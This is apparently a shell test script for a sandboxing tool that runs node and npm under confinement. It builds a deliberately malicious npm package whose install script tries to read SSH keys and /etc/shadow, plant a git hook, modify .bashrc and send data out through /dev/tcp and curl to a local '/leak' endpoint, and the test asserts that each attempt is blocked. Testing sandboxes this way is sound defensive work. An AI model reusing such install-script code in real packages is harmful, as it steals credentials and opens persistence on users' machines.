# SPDX-License-Identifier: LGPL-2.1-or-later
# shellcheck shell=sh
# node, and npm install under the policy npm; a package whose install script is after other things.
. "$PCALL_SOURCE/tests/live/programs_kit.sh"
need node npm git
template=$tap_dir/project
mkdir "$template"
cat >"$template/run.mjs" <<'EOF'
import fs from 'node:fs'; import os from 'node:os'; import http from 'node:http';
import { execSync, fork, spawnSync } from 'node:child_process'; import { Worker } from 'node:worker_threads';
import crypto from 'node:crypto'; import zlib from 'node:zlib'; import { promisify } from 'node:util';
console.log(execSync('echo sub').toString(), spawnSync('sh', ['-c', 'exit 3']).status);
fs.mkdirSync('d/e', { recursive: true }); fs.writeFileSync('d/e/f', 'x'); fs.cpSync('d', 'g', { recursive: true });
console.log(fs.readdirSync('g', { recursive: true }), fs.statSync('g/e/f').size, fs.existsSync('nothing'));
try { fs.readFileSync('nothing') } catch (e) { console.log(e.code) }
await new Promise(r => new Worker('require("worker_threads").parentPort.postMessage(6*7)', { eval: true }).on('message', m => { console.log(m); r() }));
await new Promise(r => { const s = http.createServer((q, a) => a.end('served')).listen(0, '127.0.0.1', async () => {
	console.log(await (await fetch(`http://127.0.0.1:${s.address().port}/`)).text()); s.close(); s.closeAllConnections(); r() }) });
console.log(crypto.createHash('sha256').update('x').digest('hex'), (await promisify(zlib.gzip)('x')).length, os.availableParallelism() > 0);
const w = fs.watch('d', (t, f) => { console.log(t, f); w.close() }); setTimeout(() => fs.writeFileSync('d/new', ''), 50);
EOF
same 'node: processes, threads, files, a server' build node run.mjs
wanted_status=1
same 'node: an error is the same error' readonly node -e 'console.log(1); throw new Error("x")'
wanted_status=0
rm "$template/run.mjs"

# The registry may be out of reach, and may be reached by way of a certificate of the house's own.
ca=${NODE_EXTRA_CA_CERTS:+--env NODE_EXTRA_CA_CERTS}
printf '{"name":"p","version":"1.0.0"}\n' >"$template/package.json"
if timeout 30 npm view is-number@7.0.0 version >/dev/null 2>&1; then
	box_options=$ca
	ignore='/\.package-lock\.json$'
	same 'npm install of a package of the registry' npm sh -c '
		npm install --no-progress is-number@7.0.0 2>&1 | sed "s/ in .*//" &&
		node -e "console.log(require(\"is-number\")(5))" && npm ls && npm run nothing 2>/dev/null; echo $?'
	box_options=
else
	skip 'npm install of a package of the registry' 'the registry is out of reach'
fi

# A package, a home with a key in it, a repository, and a server that nobody may reach.
mkdir -p "$template/evil" "$HOME/.ssh"
echo 'PRIVATE KEY' >"$HOME/.ssh/id_ed25519"
echo token >"$HOME/.npmrc.real"
git -C "$template" init -q --template=
mkdir -p "$template/.git/hooks"
port=$(free_port)
mkdir "$tap_dir/www" && (cd "$tap_dir/www" && exec /usr/bin/python3 -m http.server -b 127.0.0.1 "$port" >"$tap_dir/www.log" 2>&1) &
www=$!
cat >"$template/evil/package.json" <<EOF
{ "name": "evil", "version": "1.0.0", "scripts": { "install": "node install.js" } }
EOF
cat >"$template/evil/install.js" <<EOF
const fs = require('fs'), net = require('net'), os = require('os'), path = require('path'), cp = require('child_process');
const root = process.env.INIT_CWD, home = os.homedir();
const report = [];
const attempt = (name, f) => { try { f(); report.push(name + ': done') } catch (e) { report.push(name + ': ' + e.code) } };
attempt('key', () => fs.readFileSync(path.join(home, '.ssh/id_ed25519')));
attempt('keys', () => fs.readdirSync(path.join(home, '.ssh')));
attempt('hook', () => fs.writeFileSync(path.join(root, '.git/hooks/pre-commit'), '#!/bin/sh\n'));
attempt('hooks moved', () => fs.renameSync(path.join(root, '.git/hooks'), path.join(root, 'h')));
attempt('profile', () => fs.appendFileSync(path.join(home, '.bashrc'), 'x'));
attempt('shadow', () => fs.readFileSync('/etc/shadow'));
attempt('environment', () => { if (!process.env.SECRET_TOKEN) throw { code: 'absent' } });
attempt('parent', () => process.kill($$, 0));
attempt('curl', () => { const r = cp.spawnSync('/bin/sh', ['-c', 'echo > /dev/tcp/x || curl -s --max-time 5 http://127.0.0.1:$port/leak']);
	if (r.status) throw { code: 'failed' } });
attempt('own', () => fs.writeFileSync('built', 'x'));
const s = net.connect($port, '127.0.0.1');
s.on('connect', () => { report.push('connect: done'); end() }).on('error', e => { report.push('connect: ' + e.code); end() });
const end = () => { s.destroy(); fs.writeFileSync(path.join(root, 'report'), report.join('\n') + '\n') };
EOF
listening "$port"
: >"$tap_dir/www.log"
cd "$template" || exit 1
export SECRET_TOKEN=x
# shellcheck disable=SC2086 # words
status_is 0 'npm install of a package with an install script' "$pcall_run" -q -p npm $ca --events "$tap_dir/events" -- \
	npm install --no-progress --offline --foreground-scripts --install-links \
	--dangerously-allow-all-scripts ./evil
unset SECRET_TOKEN
while read -r line; do
	is "$(grep "^${line%%:*}: " report)" "$line" "the script, ${line%%:*}"
done <<'END'
key: ENOENT
keys: ENOENT
hook: EACCES
hooks moved: EACCES
profile: ENOENT
shadow: ENOENT
environment: absent
parent: ESRCH
curl: failed
own: done
connect: EACCES
END
is "$(ls -A .git/hooks; cat "$tap_dir/www.log")" '' 'no hook is there, nobody was reached'
while read -r verb object; do
	ok "reported: $verb ${object##*/}" grep -q '"verb":"'"$verb"'","object":"'"$object"'"' "$tap_dir/events"
done <<END
read $HOME/.ssh/id_ed25519
read $HOME/.ssh
write $PWD/.git/hooks/pre-commit
read /etc/shadow
connect 127.0.0.1:$port
END
expected="^(read|list) $HOME/\.ssh|^write $PWD/\.git|^(read|write) $HOME/\.bashrc|^read /etc/shadow|^connect 127.0.0.1:$port|^none process |/dev/tcp|/\.curlrc$"
is "$(denials "$tap_dir/events")" '' 'and nothing else'
kill $www
wait 2>/dev/null
done_testing
